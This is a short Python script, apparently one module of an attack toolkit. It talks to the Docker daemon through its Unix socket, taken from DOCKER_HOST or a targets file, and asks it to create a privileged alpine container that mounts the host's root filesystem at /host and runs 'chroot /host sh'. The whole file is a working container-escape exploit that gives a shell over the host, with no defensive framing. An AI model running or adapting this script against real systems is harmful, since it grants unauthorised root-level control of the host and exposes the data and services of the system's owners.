# docker-sock (Python): the Docker API over its socket: a privileged
# container with the host's / at /host.
import json, os, socket, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

path = os.environ.get("DOCKER_HOST", "").removeprefix("unix://") or T["T_DOCKER_SOCK"]
body = json.dumps({"Image": "alpine", "Cmd": ["chroot", "/host", "sh"],
                   "HostConfig": {"Binds": ["/:/host"], "Privileged": True}}).encode()
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(path)
        s.sendall(b"POST /containers/create HTTP/1.0\r\nHost: docker\r\n"
                  b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        print(s.recv(4096).decode(errors="replace"))
except OSError as e:
    print(path, e)
